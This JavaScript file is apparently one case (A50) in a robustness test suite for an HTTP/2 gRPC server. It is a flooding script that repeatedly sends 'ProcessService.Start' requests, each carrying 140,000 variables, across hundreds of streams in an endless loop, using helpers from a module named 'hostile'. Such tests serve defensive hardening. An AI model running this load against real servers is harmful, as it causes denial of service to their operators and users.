// A50: `Start` requests for a listed program, with 140,000 variables each.
import { FLAG, FRAME, frame, grpcMessage } from '@wins/http2-connection/testing';
import { attacking, file, field, forever, method, texts, written } from './hostile.mjs';

const FRAME_OCTETS = 16_384;
const VARIABLES = 140_000;
const variables = Array.from({ length: VARIABLES }, (_, index) => `${index.toString(36)}=`);
const message = grpcMessage(Buffer.concat([field(2, Buffer.from(file)), texts(5, variables)]));

forever(4, async (client) => {
  const block = client.block(method('ProcessService', 'Start'));
  for (let id = 1; id < 1000; id += 2) {
    client.headers(id, FLAG.endHeaders, block);
    for (let at = 0; at < message.length; at += FRAME_OCTETS) {
      const part = message.subarray(at, at + FRAME_OCTETS);
      const isLast = at + FRAME_OCTETS >= message.length;
      await written(client.socket, frame(FRAME.data, isLast ? FLAG.endStream : 0, id, part));
    }
    await client.received(({ type, streamId }) => type === FRAME.headers && streamId === id);
    attacking();
  }
});
